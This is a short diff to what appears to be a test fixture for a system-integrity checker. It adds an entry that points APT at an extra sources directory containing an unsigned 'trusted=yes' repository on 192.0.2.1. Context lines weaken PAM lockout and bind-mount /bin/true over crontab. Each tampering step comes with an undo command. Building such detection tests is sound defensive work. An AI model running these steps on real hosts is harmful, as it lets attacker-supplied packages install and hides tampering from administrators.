@@ -301,6 +301,13 @@ sed 's/faillock.so preauth/faillock.so preauth root_unlock_time=1 deny=1000/' /r
     undo: 'cp --archive /root/auth.kept /etc/pam.d/common-auth',
   },
   {
+    by: 'another directory for the sources of APT',
+    seen: ['L02'],
+    bash: `${dropIn('/etc/apt/apt.conf.d/99-zz-site', 'Dir::Etc::sourceparts "/root/apt";')}
+${dropIn('/root/apt/site.list', `deb [${'trusted'}=yes] http://192.0.2.1/debian stable main`)}`,
+    undo: 'rm --recursive /etc/apt/apt.conf.d/99-zz-site /root/apt',
+  },
+  {
     by: 'a program that does not look into its file',
     seen: ['I24'],
     bash: 'mount --bind /bin/true /usr/bin/crontab',
